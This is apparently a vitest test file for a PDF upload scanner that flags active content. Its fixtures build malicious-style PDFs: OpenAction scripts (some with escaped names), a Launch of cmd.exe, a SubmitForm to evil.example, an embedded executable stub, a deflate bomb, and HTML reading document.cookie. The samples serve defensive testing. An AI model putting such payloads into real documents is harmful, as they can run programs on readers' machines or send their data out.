import zlib from "node:zlib";
import { describe, expect, it } from "vitest";
import { samplePdf } from "../../../tests/support/sample-pdf.ts";
import { pdfActiveContent } from "./pdf-active-content.ts";
import { uploadedDocumentProblem } from "./uploaded-document.ts";

const plain = () => samplePdf("Prijslijst", ["Appartement 1: € 245.000"]);

/** The sample PDF with its catalog given `extra` entries and `objects` added after its own (the scanner reads no xref). */
function pdfWith(extra: string, objects: (string | Buffer)[] = []): Buffer {
  const text = plain()
    .toString("latin1")
    .replace("<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Catalog /Pages 2 0 R ${extra} >>`);
  const cut = text.indexOf("xref\n");
  const added = objects.map((object, index) =>
    Buffer.concat([
      Buffer.from(`${index + 6} 0 obj\n`, "latin1"),
      typeof object === "string" ? Buffer.from(object, "latin1") : object,
      Buffer.from("\nendobj\n", "latin1"),
    ]),
  );
  return Buffer.concat([Buffer.from(text.slice(0, cut), "latin1"), ...added, Buffer.from(text.slice(cut), "latin1")]);
}

function stream(dictionary: string, body: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${body.length} >>\nstream\n`, "latin1"),
    body,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

/** An object stream (PDF 1.5) holding `dictionary` as object 9, compressed, as Acrobat and Word write them. */
function objectStream(dictionary: string, filter = "/FlateDecode"): Buffer {
  const packed = Buffer.from(`9 0 ${dictionary}`, "latin1");
  const body = filter === "/FlateDecode" ? zlib.deflateSync(packed) : Buffer.from(packed.toString("hex"), "latin1");
  return stream(`/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, body);
}

describe("pdfActiveContent", () => {
  it("finds nothing in a plain PDF, nor in one that opens at a page", () => {
    expect(pdfActiveContent(plain())).toBeNull();
    expect(pdfActiveContent(pdfWith("/OpenAction [3 0 R /Fit]"))).toBeNull();
    expect(pdfActiveContent(pdfWith("/OpenAction << /S /URI /URI (https://www.agency.example/) >>"))).toBeNull();
  });

  it.each([
    ["a script run on opening", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"],
    ["a script with escaped names", "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", "JavaScript"],
    ["a script in the document's names", "/Names << /JavaScript 7 0 R >>", "JavaScript"],
    ["a program launched", "/AA << /WC << /S /Launch /F (cmd.exe) >> >>", "Launch"],
    ["a form sent elsewhere", "/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", "SubmitForm"],
    ["an XFA form", "/AcroForm << /XFA 8 0 R >>", "XFA"],
    ["additional actions", "/AA << /WC 7 0 R >>", "AA"],
  ])("finds %s", (_, extra, name) => {
    expect(pdfActiveContent(pdfWith(extra))).toEqual({ kind: "name", name });
  });

  it("finds a script given by its key alone", () => {
    expect(pdfActiveContent(pdfWith("/OpenAction 6 0 R", ["<< /JS (app.alert(1)) >>"]))).toEqual({
      kind: "name",
      name: "JS",
    });
  });

  it("finds an embedded file", () => {
    const found = pdfActiveContent(pdfWith("", [stream("/Type /EmbeddedFile", Buffer.from("MZ\x90\x00 a program"))]));
    expect(found).toEqual({ kind: "name", name: "EmbeddedFile" });
  });

  it("finds a script packed into a compressed object stream, where the file's plain bytes do not show it", () => {
    const pdf = pdfWith("/OpenAction 9 0 R", [objectStream("<< /S /JavaScript /JS (app.alert(1)) >>")]);
    expect(pdf.toString("latin1")).not.toContain("JavaScript");
    expect(pdfActiveContent(pdf)).toEqual({ kind: "name", name: "JavaScript" });
    expect(pdfActiveContent(pdfWith("", [objectStream("<< /Type /Font /Subtype /Type1 >>")]))).toBeNull();
  });

  it("calls an object stream it cannot read uncheckable", () => {
    const pdf = pdfWith("", [objectStream("<< /S /JavaScript /JS (x) >>", "/ASCIIHexDecode")]);
    expect(pdfActiveContent(pdf)).toEqual({ kind: "uncheckable" });
    const broken = pdfWith("", [stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Buffer.from("not zlib"))]);
    expect(pdfActiveContent(broken)).toEqual({ kind: "uncheckable" });
  });

  it("calls a deflate bomb uncheckable: object streams inflate to 64 MB in all, no more", () => {
    // 65 MB of zeros deflate to about 65 KB: one stream past the budget, or two that pass it together.
    const bomb = (bytes: number) =>
      stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.deflateSync(Buffer.alloc(bytes), { level: 9 }));
    const one = pdfWith("", [bomb(65 * 2 ** 20)]);
    expect(one.length).toBeLessThan(2 ** 20);
    expect(pdfActiveContent(one)).toEqual({ kind: "uncheckable" });
    expect(pdfActiveContent(pdfWith("", [bomb(40 * 2 ** 20), bomb(40 * 2 ** 20)]))).toEqual({ kind: "uncheckable" });
    // Within the budget, the same streams are read.
    expect(pdfActiveContent(pdfWith("", [bomb(40 * 2 ** 20)]))).toBeNull();
  });

  it.each([
    ["right after the header", "%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"],
    ["as a page a browser sniffs", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<!DOCTYPE html><p>x</p>\n"],
  ])("finds HTML %s", (_, start) => {
    const pdf = Buffer.concat([Buffer.from(start, "latin1"), plain().subarray(9)]);
    expect(pdfActiveContent(pdf)).toEqual({ kind: "html" });
  });

  it("finds HTML between the objects", () => {
    expect(pdfActiveContent(pdfWith("", ["<< >>\n<script>alert(1)</script>"]))).toEqual({ kind: "html" });
  });

  it("reads a picture's bytes for no short name nor markup: they turn up there by chance", () => {
    const picture = Buffer.from("\xff\xd8\xff\xe0 /JS> /AA( <html> <script ) \xff\xd9", "latin1");
    // Past the bytes a browser sniffs, where any markup counts.
    const metadata = `<< /Producer (${"x".repeat(1200)}) >>`;
    const pdf = pdfWith("", [metadata, stream("/Type /XObject /Subtype /Image /Filter /DCTDecode", picture)]);
    expect(pdf.indexOf("<html")).toBeGreaterThan(1024);
    expect(pdfActiveContent(pdf)).toBeNull();
  });
});

describe("uploadedDocumentProblem", () => {
  it("refuses a PDF with active content, after the checks of its size and kind", () => {
    expect(uploadedDocumentProblem(plain())).toBeNull();
    expect(uploadedDocumentProblem(pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))).toBe(
      "activeContent",
    );
    expect(uploadedDocumentProblem(Buffer.from("<html><script>alert(1)</script>"))).toBe("notPdf");
    expect(uploadedDocumentProblem(new Uint8Array(0))).toBe("empty");
  });
});
